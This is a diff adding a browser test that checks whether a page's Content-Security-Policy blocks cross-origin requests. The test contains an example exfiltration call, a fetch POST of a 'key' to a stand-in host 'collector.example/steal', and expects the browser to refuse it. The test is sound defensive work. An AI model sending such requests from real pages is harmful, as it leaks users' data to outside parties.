@@ -90,6 +90,17 @@ describe('page quality', () => {
       assert.equal(facts.inlineHandlers, 0);
     }));
 
+  test('the Content-Security-Policy stops the page from sending anything to another origin', () =>
+    withPage(async ({ page, problems }) => {
+      const outcome = await page.evaluate(() =>
+        fetch('https://collector.example/steal', { method: 'POST', body: 'key' }).then(() => 'sent', () => 'blocked'),
+      );
+      assert.equal(outcome, 'blocked');
+      // The browser reports the refused request; that report is expected here, and nothing else.
+      const reports = problems.splice(0);
+      assert.ok(reports.length > 0 && reports.every((p) => /Content Security Policy|collector\.example/.test(p)), reports.join('\n'));
+    }));
+
   test('keyboard: Tab reaches every tool, arrows switch the operation, Enter opens sections and presses buttons', () =>
     withPage(async ({ page }) => {
       const reached = new Set();
